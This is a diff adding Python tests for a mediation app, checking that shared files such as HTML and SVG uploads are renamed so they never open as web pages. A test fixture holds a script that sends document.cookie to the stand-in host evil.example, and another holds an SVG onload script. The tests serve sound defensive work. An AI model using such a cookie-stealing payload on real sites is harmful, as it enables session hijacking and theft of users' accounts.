@@ -178,6 +178,58 @@ def test_when_document_is_downloaded_then_attachment_nosniff_and_exact_bytes(ses
     assert b"".join(response.streaming_content) == PDF
 
 
+HTML = b"<!doctype html><script>fetch('https://evil.example/'+document.cookie)</script>"
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'
+
+
+@pytest.mark.parametrize(
+    "name, data, shown",
+    [
+        ("offer.html", HTML, "offer.html.txt"),
+        ("offer.HTM", HTML, "offer.HTM.txt"),
+        ("logo.svg", SVG, "logo.svg.txt"),
+        ("notes.TXT", b"plain words\n", "notes.TXT"),
+        ("scan.pdf", PDF, "scan.pdf"),
+        ("scan.pdf.html", PDF, "scan.pdf.html.pdf"),
+        ("photo", PNG, "photo.png"),
+        ("photo.jpeg.", PNG, "photo.jpeg.png"),
+    ],
+)
+def test_when_a_file_is_shared_then_its_name_ends_as_what_it_is_so_it_never_opens_as_a_web_page(
+    session, party_a, party_b, name, data, shown
+):
+    joint = session["joint"]
+    response = _client(party_a).post(
+        reverse("mediation:room_documents", args=[joint.public_id]), {"file": _upload(name, data, "text/html")}
+    )
+    assert response.status_code == 201, response.content
+    assert response.json()["document"]["name"] == shown
+    document = RoomDocument.objects.get()
+    assert document_name(document) == shown
+
+    download = _client(party_b).get(reverse("mediation:room_document", args=[joint.public_id, document.public_id]))
+
+    assert f'filename="{shown}"' in download["Content-Disposition"]
+    assert download["Content-Type"] == document.content_type
+
+
+def test_when_a_document_shared_before_the_rule_is_downloaded_then_it_gets_the_extension_of_its_type(
+    session, party_a, party_b
+):
+    joint = session["joint"]
+    _client(party_a).post(reverse("mediation:room_documents", args=[joint.public_id]), {"file": _upload("a.txt", HTML)})
+    document = RoomDocument.objects.get()
+    from sessions.services import confidentiality
+
+    cipher = confidentiality.case_cipher(joint.case)
+    document.name_sealed = cipher.seal_text("legacy.html", aad=confidentiality.document_aad(document, "name"))
+    document.save(update_fields=["name_sealed"])
+
+    download = _client(party_b).get(reverse("mediation:room_document", args=[joint.public_id, document.public_id]))
+
+    assert 'filename="legacy.html.txt"' in download["Content-Disposition"]
+
+
 def test_when_caucus_document_is_requested_by_the_other_party_then_not_found(session, party_a, party_b, mediator):
     caucus = session["caucus"]
     response = _client(party_a).post(
